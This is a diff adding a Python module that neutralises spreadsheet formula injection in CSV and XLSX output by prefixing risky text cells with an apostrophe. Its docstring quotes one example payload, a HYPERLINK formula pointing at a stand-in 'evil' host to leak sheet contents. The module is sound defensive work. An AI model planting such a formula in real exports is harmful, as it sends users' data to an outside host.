@@ -1,0 +1,97 @@
+"""The one guard against formula injection in every CSV and XLSX the project writes.
+
+A spreadsheet program runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or
+carriage return) as a formula: a comment ``=HYPERLINK("http://evil/?"&A1,"click")`` becomes a live link
+that leaks the sheet. OWASP's remedy is applied here: such text gets a leading apostrophe, which every
+spreadsheet program shows as plain text. Numbers, and text that reads as a number (``-0.5``), are left
+as they are, so machine-readable outputs keep their values.
+
+Every writer goes through :func:`safe_cell` (directly, or through :class:`CsvWriter`,
+:class:`DictCsvWriter`, :func:`safe_frame`); ``tests/platform/test_formula_injection.py`` checks that no
+module writes CSV or XLSX around it.
+"""
+
+from __future__ import annotations
+
+import csv
+from collections.abc import Iterable, Mapping, Sequence
+from typing import IO, Any
+
+import pandas as pd
+
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def safe_cell(value: Any) -> Any:
+    """``value`` unchanged unless it is text a spreadsheet would run as a formula; then ``'`` + text."""
+    if isinstance(value, str) and value.startswith(TRIGGERS) and not _is_number(value):
+        return "'" + value
+    return value
+
+
+def safe_row(row: Iterable[Any]) -> list[Any]:
+    """Every cell of ``row`` through :func:`safe_cell`."""
+    return [safe_cell(v) for v in row]
+
+
+def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
+    """A copy of ``frame`` whose text cells (and column names) went through :func:`safe_cell`."""
+    out = frame.copy()
+    for column in out.columns:
+        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
+            out[column] = out[column].map(safe_cell)
+    out.columns = [safe_cell(c) for c in out.columns]
+    return out
+
+
+class CsvWriter:
+    """``csv.writer`` whose rows pass through :func:`safe_row` (``lineterminator`` ``\\n``)."""
+
+    def __init__(self, handle: IO[str], **options: Any) -> None:
+        self._writer = csv.writer(handle, lineterminator="\n", **options)
+
+    def writerow(self, row: Sequence[Any]) -> None:
+        """Write one row, neutralised."""
+        self._writer.writerow(safe_row(row))
+
+    def writerows(self, rows: Iterable[Sequence[Any]]) -> None:
+        """Write several rows, neutralised."""
+        for row in rows:
+            self.writerow(row)
+
+
+class DictCsvWriter:
+    """``csv.DictWriter`` whose header and values pass through :func:`safe_cell`."""
+
+    def __init__(self, handle: IO[str], fieldnames: Sequence[str], **options: Any) -> None:
+        self.fieldnames = list(fieldnames)
+        self._writer = csv.writer(handle, lineterminator="\n", **options)
+
+    def writeheader(self) -> None:
+        """The header row, neutralised."""
+        self._writer.writerow(safe_row(self.fieldnames))
+
+    def writerow(self, row: Mapping[str, Any]) -> None:
+        """One row in ``fieldnames`` order (missing keys empty), neutralised; unknown keys are an error."""
+        extra = set(row) - set(self.fieldnames)
+        if extra:
+            raise ValueError(f"row has keys not in the header: {sorted(extra)}")
+        self._writer.writerow(safe_row(row.get(name, "") for name in self.fieldnames))
+
+    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
+        """Several rows, neutralised."""
+        for row in rows:
+            self.writerow(row)
+
+
+def append_row(sheet: Any, row: Iterable[Any]) -> None:
+    """``sheet.append(row)`` for an openpyxl worksheet, neutralised (openpyxl stores ``=…`` as a formula)."""
+    sheet.append(safe_row(row))
